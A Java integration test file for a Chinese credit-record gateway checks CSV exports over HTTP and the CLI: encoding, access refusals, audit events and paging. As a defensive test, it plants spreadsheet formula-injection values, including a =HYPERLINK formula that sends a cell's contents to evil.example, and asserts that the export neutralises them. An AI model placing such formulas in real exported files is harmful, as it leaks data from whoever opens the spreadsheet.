package credit.exchange.gateway.api;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import credit.exchange.gateway.Node;
import credit.exchange.gateway.NodeConfig;
import credit.exchange.gateway.TestNodes;
import credit.exchange.gateway.cli.CliRun;
import credit.exchange.routes.api.Json;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The CSV exports over HTTP and from the CLI, on a real node: a record query and an officer's
 * search as files a Chinese spreadsheet opens right (read back with the BOM), planted formulas
 * neutralised, the same doors and access decisions as the JSON (the public gets class A rows, a
 * class B dataset it may not read is refused without a file, a non-officer gets no audit CSV),
 * every export an audit event; and the JSON pages' totals.
 */
class ExportsIT {

    private static final String SUBJECT = "91330100716105852F";
    private static final String COMPANY = "杭州千岛网络有限公司";
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    @TempDir
    static Path dataDir;
    static NodeConfig config;
    static Node node;
    static String url;
    static String reader;
    static String officer;

    @BeforeAll
    static void start() throws Exception {
        config = TestNodes.config(dataDir, Map.of());
        node = Node.start(config);
        url = TestNodes.baseUrl(config);
        String licensing = "XK_XDR_MC,XK_XDR_LB,XK_XDR_SHXYM,XK_XDR_GSZC,XK_XDR_ZZJG,XK_XDR_SWDJ,XK_XDR_SYDW,XK_XDR_SHZZ,XK_FRDB,XK_FR_ZJLX,"
                + "XK_FR_ZJHM,XK_XDR_ZJLX,XK_XDR_ZJHM,XK_XKWS,XK_WSH,XK_XKLB,XK_XKZS,XK_XKBH,XK_NR,XK_JDRQ,XK_YXQZ,XK_YXQZI,XK_XKJG,"
                + "XK_XKJGDM,XK_ZT,XK_LYDW,XK_LYDWDM,BZ\n"
                + licence("杭卫生许字〔2026〕1000号", "ZJ26000000", "准予公共场所卫生许可", "")
                + licence("杭卫生许字〔2026〕1001号", "+1", "\"" + HYPERLINK.replace("\"", "\"\"") + "\"", "@SUM(A1:A9)");
        String tax = "MD_XDR_MC,MD_XDR_LB,MD_XDR_SHXYM,MD_FRDB,MD_FR_ZJLX,MD_FR_ZJHM,MD_WSH,MD_LB,MD_YJ,MD_NR,MD_YZCD,MD_JDRQ,MD_YXQ,"
                + "MD_GSJZQ,MD_RDJG,MD_RDJGDM,MD_SJLY,MD_SJLYDM,BZ\n"
                + COMPANY + ",法人及非法人组织," + SUBJECT + ",刘磊,,,杭税评〔2026〕7号,A级纳税人,《纳税信用管理办法》,评价为A级,一般,2026-04-01,"
                + "2027-03-31," + java.time.LocalDate.now().plusYears(1) + ",国家税务总局杭州市税务局,11330100002487959W,"
                + "国家税务总局杭州市税务局,11330100002487959W,\n";
        for (var file : Map.of("licensing", licensing, "tax", tax).entrySet()) {
            HttpResponse<String> imported = TestNodes.operatorPost(url + "/api/v1/imports?type=" + file.getKey(), "text/csv",
                    file.getValue().getBytes(StandardCharsets.UTF_8));
            assertEquals(200, imported.statusCode(), imported.body());
            assertEquals(file.getKey().equals("licensing") ? 2 : 1, Json.mapper().readTree(imported.body()).path("stored").asInt(),
                    imported.body());
        }
        reader = TestNodes.devToken(url, "public-reader", "reader-public", null);
        officer = TestNodes.devToken(url, "审计员", "auditor", null);
    }

    @AfterAll
    static void stop() {
        node.close();
    }

    private static String licence(String document, String number, String content, String remark) {
        return COMPANY + ",法人及非法人组织," + SUBJECT + ",,,,,,刘磊,,,,,公共场所卫生许可决定书," + document + ",普通,公共场所卫生许可证," + number + ","
                + content + ",2026-11-18,2026-11-18,2031-11-18,杭州市卫生健康委员会,113301004A6B675F3B,0,杭州市卫生健康委员会,"
                + "113301004A6B675F3B," + remark + "\n";
    }

    @Test
    void aRecordQueryAsCsv_opensWithTheRightCharacters_andNeutralisesEveryPlantedFormula() throws Exception {
        for (HttpResponse<byte[]> answer : List.of(
                get("/api/v1/records?uscc=" + SUBJECT + "&format=csv", reader, null),
                get("/api/v1/records?uscc=" + SUBJECT, reader, "text/csv, application/json"))) {
            assertEquals(200, answer.statusCode(), new String(answer.body(), StandardCharsets.UTF_8));
            assertEquals("text/csv; charset=utf-8", answer.headers().firstValue("Content-Type").orElse(""));
            String disposition = answer.headers().firstValue("Content-Disposition").orElse("");
            assertTrue(disposition.matches("attachment; filename=\"records-" + SUBJECT + "-\\d{8}-\\d{6}\\.csv\""), disposition);
            List<CSVRecord> rows = spreadsheet(answer.body());
            assertEquals(2, rows.size(), "the public's class A records; the class B tax rating is not among them");
            for (CSVRecord row : rows) {
                assertEquals(List.of(COMPANY, "行政许可", "A 公开", "有效"),
                        List.of(row.get("主体名称"), row.get("信用信息类别"), row.get("公开类别"), row.get("状态")));
            }
            CSVRecord planted = rows.stream().filter(r -> r.get("决定文书号").endsWith("1001号")).findFirst().orElseThrow();
            assertEquals("'" + HYPERLINK, planted.get("内容"));
            assertEquals("'+1", planted.get("许可编号"));
        }
        assertEquals(2, spreadsheet(get("/api/v1/records?uscc=" + SUBJECT + "&format=csv", null, null).body()).size(),
                "the anonymous public too: class A");
        List<CSVRecord> byName = spreadsheet(get("/api/v1/records?name=" + URLEncoder.encode("杭州千岛", StandardCharsets.UTF_8)
                + "&format=csv", reader, null).body());
        assertEquals(2, byName.size());

        assertTrue(TestNodes.rows(config, "select actor || ' ' || outcome || ' ' || detail from audit_event where action = 'export'")
                .containsAll(List.of("public-reader WRITTEN CSV of records, uscc " + SUBJECT + ": 2 rows",
                        "anonymous WRITTEN CSV of records, uscc " + SUBJECT + ": 2 rows",
                        "public-reader WRITTEN CSV of records, name 杭州千岛*: 2 rows")), "every export is an audit event");
    }

    @Test
    void aClassBDatasetAsCsv_isRefusedAsTheJsonIs_withNoFile() throws Exception {
        HttpResponse<byte[]> anonymous = get("/api/v1/records?uscc=" + SUBJECT + "&datasets=tax&format=csv", null, null);
        HttpResponse<byte[]> publicReader = get("/api/v1/records?uscc=" + SUBJECT + "&datasets=tax&format=csv", reader, null);

        assertRefused(anonymous, 401, "E_TOKEN_MISSING");
        assertRefused(publicReader, 403, "E_NOT_GRANTED");
        assertRefused(get("/api/v1/records?uscc=" + SUBJECT + "&format=xlsx", reader, null), 400, "E_FIELD_INVALID");
    }

    @Test
    void aPersonsRecordsAsCsv_areAskedInTheBody_andTheNumberAppearsNowhere() throws Exception {
        HttpResponse<byte[]> answer = HTTP.send(HttpRequest.newBuilder(URI.create(url + "/api/v1/records/by-person"))
                .header("Authorization", reader).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"residentId\": \"11010519491231002X\", \"format\": \"csv\"}")).build(),
                HttpResponse.BodyHandlers.ofByteArray());

        assertEquals(200, answer.statusCode(), new String(answer.body(), StandardCharsets.UTF_8));
        assertTrue(answer.headers().firstValue("Content-Disposition").orElse("").contains("records-person-"));
        String text = new String(answer.body(), StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF记录编号,信用信息类别,"), "no record: the header still says what the file would hold: " + text);
        assertFalse(text.contains("11010519491231002X"));
    }

    @Test
    void theOfficersSearchAsCsv_holdsEveryMatchingEvent_inShanghaiTime_andOnlyAnOfficerGetsIt() throws Exception {
        assertEquals(403, get("/api/v1/records?uscc=" + SUBJECT + "&datasets=tax", reader, null).statusCode(), "a refusal to find");
        for (int q = 0; q < 6; q++) {
            assertEquals(200, get("/api/v1/records?uscc=" + SUBJECT, reader, null).statusCode(), "an access event per query");
        }
        String criteria = "from=" + Instant.now().minusSeconds(3600) + "&to=" + Instant.now().plusSeconds(60) + "&action=access";
        JsonNode page = Json.mapper().readTree(get("/api/v1/audit/events?" + criteria + "&limit=5", officer, null).body());
        long total = page.path("total").asLong();
        assertTrue(total > 5 && page.path("events").size() == 5, "a page of 5, and the total of " + total + " beside it");

        HttpResponse<byte[]> csv = get("/api/v1/audit/events?" + criteria + "&format=csv", officer, null);

        assertEquals(200, csv.statusCode(), new String(csv.body(), StandardCharsets.UTF_8));
        assertEquals("text/csv; charset=utf-8", csv.headers().firstValue("Content-Type").orElse(""));
        assertTrue(csv.headers().firstValue("Content-Disposition").orElse("").matches("attachment; filename=\"audit-hangzhou-\\d{8}-\\d{6}-\\d{8}-\\d{6}\\.csv\""),
                csv.headers().toString());
        List<CSVRecord> rows = spreadsheet(csv.body());
        assertTrue(rows.size() >= total, rows.size() + " rows, " + total + " matched a moment before");
        assertTrue(rows.stream().allMatch(r -> r.get("操作").equals("access") && r.get("时间（UTC+08:00 Asia/Shanghai）")
                .matches("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}")), "access events, each time in Shanghai");
        assertTrue(rows.stream().anyMatch(r -> r.get("决定").equals("拒绝") && r.get("原因").equals("E_NOT_GRANTED")), "the public's refusal");
        assertTrue(TestNodes.rows(config, "select actor || ' ' || outcome from audit_event where action = 'export'"
                + " and detail like 'CSV of audit events%'").contains("审计员 WRITTEN"), "the officer's export is an event");

        assertRefused(get("/api/v1/audit/events?" + criteria + "&format=csv", reader, null), 403, "E_ROLE_REQUIRED");
        assertRefused(get("/api/v1/audit/events?" + criteria + "&format=csv", null, null), 401, "E_TOKEN_MISSING");
    }

    @Test
    void theJsonPages_sayHowManyThereAreInAll() throws Exception {
        JsonNode first = Json.mapper().readTree(get("/api/v1/records?uscc=" + SUBJECT + "&size=1", reader, null).body());
        JsonNode operator = Json.mapper().readTree(TestNodes.operatorGet(url + "/api/v1/records?uscc=" + SUBJECT + "&size=1").body());

        assertEquals(List.of(2L, 1, true), List.of(first.path("total").asLong(), first.path("records").size(), first.path("hasMore").asBoolean()));
        assertEquals(0, operator.path("total").asLong(), "the operator's role reads no record");
    }

    @Test
    void gatewayctlQueryCsv_writesTheSameFile_asAnAuditedExport() throws Exception {
        Path out = dataDir.resolve("export.csv");

        CliRun run = CliRun.of("query", "--uscc", SUBJECT, "--csv", "--out", out.toString(), "--data-dir", dataDir.toString());

        assertEquals(0, run.exit(), run.err());
        List<CSVRecord> rows = spreadsheet(Files.readAllBytes(out));
        assertEquals(3, rows.size(), "the operator on the node's host reads every class");
        assertTrue(rows.stream().anyMatch(r -> r.get("公开类别").equals("B 授权查询") && r.get("信用信息类别").equals("纳税信用")));
        assertTrue(TestNodes.rows(config, "select actor_kind || ' ' || detail from audit_event where action = 'export'")
                .contains("OPERATOR CSV of records, uscc " + SUBJECT + ": 3 rows"));
    }

    private static HttpResponse<byte[]> get(String path, String bearer, String accept) throws IOException, InterruptedException {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(url + path)).timeout(Duration.ofSeconds(30)).GET();
        if (bearer != null) {
            b.header("Authorization", bearer);
        }
        if (accept != null) {
            b.header("Accept", accept);
        }
        return HTTP.send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    private static void assertRefused(HttpResponse<byte[]> answer, int status, String code) throws IOException {
        String body = new String(answer.body(), StandardCharsets.UTF_8);
        assertEquals(status, answer.statusCode(), body);
        assertTrue(answer.headers().firstValue("Content-Type").orElse("").startsWith("application/json"), answer.headers().toString());
        assertEquals(code, Json.mapper().readTree(body).path("code").asText(), body);
    }

    /** As a spreadsheet opens the file: the BOM first says UTF-8; the first record names the columns. */
    private static List<CSVRecord> spreadsheet(byte[] file) throws IOException {
        assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(file, 3), "UTF-8's BOM first");
        String text = new String(file, StandardCharsets.UTF_8).substring(1);
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(text)).getRecords();
    }
}
